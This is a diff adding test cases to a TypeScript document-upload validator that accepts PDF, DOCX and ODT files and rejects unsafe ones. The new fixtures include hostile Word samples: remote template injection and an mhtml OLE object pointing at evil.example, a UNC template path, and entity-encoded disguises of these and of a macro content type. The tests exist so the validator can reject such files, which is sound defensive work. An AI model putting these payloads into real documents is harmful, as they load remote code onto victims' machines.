@@ -1,10 +1,14 @@
 import { checkDocument } from './check-document.ts';
 import { DOCUMENT_LIMITS } from './document-limits.ts';
-import { docxFiles, makeArchive, makePdf, odtFiles } from './documents.fixture.ts';
+import { docxFiles, makeArchive, WORD, makePdf, odtFiles } from './documents.fixture.ts';
 
 const pdf = makePdf();
 const docx = makeArchive(docxFiles());
 const macro = 'application/vnd.ms-word.document.macroEnabled.main+xml';
+const relation = (kind: string, target: string) =>
+  `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;
+const withRelation = (kind: string, target: string, name = 'word/_rels/settings.xml.rels') =>
+  makeArchive(docxFiles([{ name, content: relation(kind, target) }]));
 const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
 
 test.each([
@@ -12,6 +16,8 @@ test.each([
   ['a PDF with blanks behind its end', Buffer.concat([pdf, Buffer.from('\r\n\0\0 ')]), 'pdf'],
   ['a PDF with an archive in it', Buffer.concat([pdf, docx, pdf]), 'pdf'],
   ['a text of Word', docx, 'docx'],
+  ['a text of Word with a link', withRelation('hyperlink', 'https://verein.example/'), 'docx'],
+  ['one with a template of its writer', withRelation('attachedTemplate', 'file:///C:\\Vorlagen\\Brief.dotx'), 'docx'],
   ['a text of LibreOffice', makeArchive(odtFiles()), 'odt'],
 ])('knows %s', async (_, file, type) => {
   expect(await checkDocument(file)).toBe(type);
@@ -45,6 +51,27 @@ test.each([
     422,
     'Makros',
   ],
+  [
+    'a text of Word with macros by its type in disguise',
+    makeArchive(docxFiles([], `${macro.replace('macro', 'm&#97;cro')}" Of="${WORD}`)),
+    422,
+    'Makros',
+  ],
+  ['a text that fetches its template', withRelation('attachedTemplate', 'https://evil.example/a.dotm'), 422, 'Netz'],
+  ['one from another computer', withRelation('attachedTemplate', 'file:///\\\\evil.example\\a.dotm'), 422, 'Netz'],
+  [
+    'a text with an object from elsewhere',
+    withRelation('oleObject', 'mhtml:http://evil.example/a!x', 'word/_rels/document.xml.rels'),
+    422,
+    'Netz',
+  ],
+  ['one in disguise', withRelation('attachedTempl&#97;te', '&#104;ttp://evil.example/a.dotm'), 422, 'Netz'],
+  [
+    'a text whose parts are told of in no XML',
+    makeArchive(docxFiles([{ name: 'word/_rels/a.rels', content: '<a' }])),
+    422,
+    'beschädigt',
+  ],
   ['a text with ActiveX', makeArchive(docxFiles([{ name: 'word/activeX/a.bin', content: '' }])), 422, 'Makros'],
   [
     'a text of LibreOffice with macros',
@@ -52,6 +79,7 @@ test.each([
     422,
     'Makros',
   ],
+  ['a text whose description is no XML', makeArchive(docxFiles([], '"<')), 422, 'beschädigt'],
   ['half an archive', docx.subarray(0, docx.length - 30), 422, 'beschädigt'],
   ['an archive with something behind it', Buffer.concat([docx, Buffer.from('more')]), 422, 'beschädigt'],
   ['an archive with a comment', makeArchive(docxFiles(), '<script>'), 422, 'mehr als ein Dokument'],
